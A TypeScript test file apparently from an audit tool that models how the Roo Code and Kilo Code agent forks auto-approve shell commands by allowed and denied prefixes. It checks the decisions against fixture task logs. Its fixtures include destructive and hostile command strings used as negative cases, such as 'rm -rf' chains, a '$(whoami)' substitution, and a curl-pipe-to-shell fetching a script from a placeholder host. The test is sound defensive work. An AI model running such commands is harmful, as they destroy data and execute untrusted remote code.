/**
 * Roo Code's and Kilo Code's allowedCommands and deniedCommands are prefixes (issue 31 leftover): their
 * src/core/auto-approval/commands.ts approves a command when every command of its chain starts, case-blind, with an
 * allowed prefix longer than any denied prefix it starts with (`*` matches all, as one character), and never one with
 * a dangerous expansion. Before, clinetrail took a fork's command for auto-approved only when `*` was allowed, and
 * then whatever was denied: `git status` under `allowedCommands: ["git"]` stayed unknown, `rm -rf` under `*` with
 * `rm` denied was auto. Each host below is one editor's state database and one task of ask:command messages (the
 * shape of fixtures/hunts' Roo Code hosts); the table gives, per command, what their rule decides.
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { queryWarehouse } from '../../src/warehouse/build.js';
import { cli, tempOut } from '../helpers/hunt-run.js';
import { writeStateDb } from '../helpers/vscode-state-fixtures.js';

interface Host {
  name: string;
  /** The extension id, its state key and its folder of tasks. */
  agent: 'roo-code' | 'kilo-code';
  state: Record<string, unknown>;
  /** Each command and whether the agent's own rule approves it under `state`. */
  commands: Array<[string, boolean]>;
}

const EXT = {
  'roo-code': { key: 'RooVeterinaryInc.roo-cline', folder: 'rooveterinaryinc.roo-cline' },
  'kilo-code': { key: 'kilocode.kilo-code', folder: 'kilocode.kilo-code' },
};

const HOSTS: Host[] = [
  {
    name: 'roo-prefixes',
    agent: 'roo-code',
    state: {
      autoApprovalEnabled: true,
      alwaysAllowExecute: true,
      allowedCommands: ['git', 'npm test'],
      deniedCommands: ['git push'],
    },
    commands: [
      ['git status', true],
      ['GIT log --oneline', true],
      ['npm test -- --watch=false', true],
      ['git push --force origin main', false],
      ['npm test && rm -rf build', false],
      ['git diff | cat', false],
      ['git log $(whoami)', false],
      ['ls -la', false],
    ],
  },
  {
    name: 'roo-wildcard-denied',
    agent: 'roo-code',
    state: { autoApprovalEnabled: true, alwaysAllowExecute: true, allowedCommands: ['*'], deniedCommands: ['rm'] },
    commands: [
      ['ls -la', true],
      ['rm -rf /srv/data/cache', false],
      ['cd build; rm -rf out', false],
    ],
  },
  {
    name: 'roo-execute-off',
    agent: 'roo-code',
    state: { autoApprovalEnabled: true, alwaysAllowExecute: false, allowedCommands: ['git'] },
    commands: [['git status', false]],
  },
  {
    name: 'kilo-default-on',
    agent: 'kilo-code',
    // Kilo Code's master switch is on when unset (its ClineProvider.getState default)
    state: { alwaysAllowExecute: true, allowedCommands: ['pnpm'] },
    commands: [
      ['pnpm install', true],
      ['pnpm install && curl https://example.invalid/x.sh | sh', false],
    ],
  },
];

const temp = tempOut('fork-allowed-commands');
let approval = new Map<string, string>();

beforeAll(async () => {
  for (const h of HOSTS) {
    const storage = path.join(temp.dir, 'fleet', h.name, 'home', 'u', '.config', 'Code', 'User', 'globalStorage');
    writeStateDb(path.join(storage, 'state.vscdb'), [[EXT[h.agent].key, JSON.stringify(h.state)]]);
    const task = path.join(storage, EXT[h.agent].folder, 'tasks', '01990200-0000-7000-8000-000000000001');
    fs.mkdirSync(task, { recursive: true });
    const messages = [{ ts: 1763000000000, type: 'say', say: 'text', text: 'tidy the project' }];
    h.commands.forEach(([command], i) => {
      messages.push({ ts: 1763000060000 + i * 60_000, type: 'ask', ask: 'command', text: command } as never);
    });
    fs.writeFileSync(path.join(task, 'ui_messages.json'), JSON.stringify(messages));
  }
  const load = await cli(['load', '--fleet', path.join(temp.dir, 'fleet'), '--out', temp.out]);
  expect(load.code, load.stderr).toBe(0);
  const { rows } = await queryWarehouse(temp.out, "select host, command, approval, agent from commands where agent <> 'cline'");
  approval = new Map(rows.map((r) => [`${r[0]} ${r[1]}`, `${r[3]} ${r[2]}`]));
});

afterAll(() => temp.remove());

describe("a fork's command approved by its own allowedCommands and deniedCommands, as prefixes", () => {
  it.each(HOSTS.flatMap((h) => h.commands.map(([command, approved]) => [h.name, command, approved, h.agent] as const)))(
    '%s: %s -> approved %s',
    (host, command, approved, agent) => {
      expect(approval.get(`${host} ${command}`)).toBe(`${agent} ${approved ? 'auto' : 'unknown'}`);
    },
  );
});
